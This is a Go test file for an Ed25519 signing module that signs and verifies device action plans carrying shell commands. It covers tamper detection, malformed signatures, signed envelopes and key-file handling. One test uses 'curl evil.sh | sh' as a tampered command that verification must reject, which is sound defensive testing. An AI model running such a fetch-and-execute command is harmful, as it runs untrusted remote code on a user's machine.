package crypto

import (
	"crypto/ed25519"
	"encoding/base64"
	"encoding/json"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/Steve-IX/Ezra/pkg/contracts"
)

func samplePlan() contracts.ActionPlan {
	now := time.Date(2025, 3, 1, 12, 0, 0, 0, time.UTC)
	return contracts.ActionPlan{
		ID:            "3f1e6a4c-8a1b-4d0e-9c57-5a3b1f1e2d10",
		DeviceID:      "dev-42",
		CreatedAt:     now,
		ExpiresAt:     now.Add(contracts.DefaultPlanTTL),
		SchemaVersion: contracts.PlanSchemaVersion,
		Actions: []contracts.Action{{
			ID:               "action_1",
			Type:             contracts.ActionInstall,
			Description:      "Install htop",
			RiskLevel:        contracts.RiskLow,
			Commands:         []string{"apt-get install -y htop"},
			RollbackCommands: []string{"apt-get remove -y htop"},
		}},
		RiskLevel: contracts.RiskLow,
		Metadata:  contracts.PlanMetadata{Provider: "openai", Model: "gpt-4o", Confidence: 0.9},
	}
}

func TestSigner_Integrity(t *testing.T) {
	signer, err := NewEd25519Signer()
	require.NoError(t, err)

	plan := samplePlan()
	sig, err := signer.Sign(plan)
	require.NoError(t, err)

	assert.Equal(t, contracts.AlgorithmEd25519, sig.Algorithm)
	assert.Equal(t, signer.PublicKey(), sig.PublicKey)
	assert.Equal(t, time.UTC, sig.Timestamp.Location())
	assert.True(t, signer.Verify(plan, sig), "signature should verify")

	tampered := samplePlan()
	tampered.Actions[0].Commands[0] = "curl evil.sh | sh"
	assert.False(t, signer.Verify(tampered, sig), "tampered command must fail")

	tampered = samplePlan()
	tampered.RiskLevel = contracts.RiskCritical
	assert.False(t, signer.Verify(tampered, sig), "tampered risk must fail")
}

func TestVerify_RawJSONMatchesStruct(t *testing.T) {
	signer, err := NewEd25519Signer()
	require.NoError(t, err)

	plan := samplePlan()
	sig, err := signer.Sign(plan)
	require.NoError(t, err)

	// Re-encoded by an executor with indentation and a different key order.
	var generic map[string]any
	b, _ := json.Marshal(plan)
	require.NoError(t, json.Unmarshal(b, &generic))
	pretty, err := json.MarshalIndent(generic, "", "  ")
	require.NoError(t, err)

	assert.True(t, Verify(json.RawMessage(pretty), sig))
}

func TestVerify_MalformedSignatures(t *testing.T) {
	signer, err := NewEd25519Signer()
	require.NoError(t, err)
	payload := map[string]string{"hello": "world"}
	good, err := signer.Sign(payload)
	require.NoError(t, err)

	other, err := NewEd25519Signer()
	require.NoError(t, err)

	tests := []struct {
		name   string
		mutate func(s *contracts.Signature)
	}{
		{"bad base64 key", func(s *contracts.Signature) { s.PublicKey = "!!!" }},
		{"short key", func(s *contracts.Signature) { s.PublicKey = base64.StdEncoding.EncodeToString([]byte("short")) }},
		{"bad base64 sig", func(s *contracts.Signature) { s.Signature = "%%%" }},
		{"short sig", func(s *contracts.Signature) { s.Signature = base64.StdEncoding.EncodeToString([]byte("x")) }},
		{"wrong algorithm", func(s *contracts.Signature) { s.Algorithm = "RSA-PSS" }},
		{"empty algorithm", func(s *contracts.Signature) { s.Algorithm = "" }},
		{"foreign key", func(s *contracts.Signature) { s.PublicKey = other.PublicKey() }},
		{"empty", func(s *contracts.Signature) { *s = contracts.Signature{} }},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			sig := good
			tt.mutate(&sig)
			assert.False(t, Verify(payload, sig))
		})
	}
}

func TestNewEd25519SignerFromSeed(t *testing.T) {
	seed := make([]byte, ed25519.SeedSize)
	for i := range seed {
		seed[i] = byte(i)
	}
	a, err := NewEd25519SignerFromSeed(seed)
	require.NoError(t, err)
	b, err := NewEd25519SignerFromSeed(seed)
	require.NoError(t, err)
	assert.Equal(t, a.PublicKey(), b.PublicKey(), "same seed, same key")

	direct := ed25519.NewKeyFromSeed(seed).Public().(ed25519.PublicKey)
	assert.Equal(t, []byte(direct), a.PublicKeyBytes(), "32-byte seed is used directly")

	stretched, err := NewEd25519SignerFromSeed([]byte("operator passphrase"))
	require.NoError(t, err)
	again, err := NewEd25519SignerFromSeed([]byte("operator passphrase"))
	require.NoError(t, err)
	assert.Equal(t, stretched.PublicKey(), again.PublicKey())
	assert.NotEqual(t, a.PublicKey(), stretched.PublicKey())

	_, err = NewEd25519SignerFromSeed(nil)
	assert.ErrorIs(t, err, ErrEmptySeed)
}

func TestSignEnvelope(t *testing.T) {
	signer, err := NewEd25519Signer()
	require.NoError(t, err)

	env, err := signer.SignEnvelope(samplePlan())
	require.NoError(t, err)

	ok, data := OpenEnvelope(env)
	require.True(t, ok)
	var got contracts.ActionPlan
	require.NoError(t, json.Unmarshal(data, &got))
	assert.Equal(t, "dev-42", got.DeviceID)

	env.Data = json.RawMessage(`{"device_id":"dev-43"}`)
	ok, data = OpenEnvelope(env)
	assert.False(t, ok)
	assert.Nil(t, data)
}

func TestTrusted(t *testing.T) {
	signer, _ := NewEd25519Signer()
	other, _ := NewEd25519Signer()

	sig, err := signer.Sign("x")
	require.NoError(t, err)
	assert.True(t, signer.Trusted(sig))
	assert.False(t, other.Trusted(sig))
}

func TestLoadOrGenerateSigner(t *testing.T) {
	path := filepath.Join(t.TempDir(), "keys", "companion.key")

	_, err := LoadOrGenerateSigner(path, true)
	assert.ErrorIs(t, err, ErrKeyRequired)

	first, err := LoadOrGenerateSigner(path, false)
	require.NoError(t, err)

	info, err := os.Stat(path)
	require.NoError(t, err)
	assert.Equal(t, os.FileMode(0o600), info.Mode().Perm())

	pub, err := os.ReadFile(path + ".pub")
	require.NoError(t, err)
	assert.Equal(t, first.PublicKey()+"\n", string(pub))

	second, err := LoadOrGenerateSigner(path, true)
	require.NoError(t, err)
	assert.Equal(t, first.PublicKey(), second.PublicKey(), "existing key is reused")

	require.NoError(t, os.WriteFile(path, []byte("zz"), 0o600))
	_, err = LoadOrGenerateSigner(path, false)
	assert.Error(t, err)
}
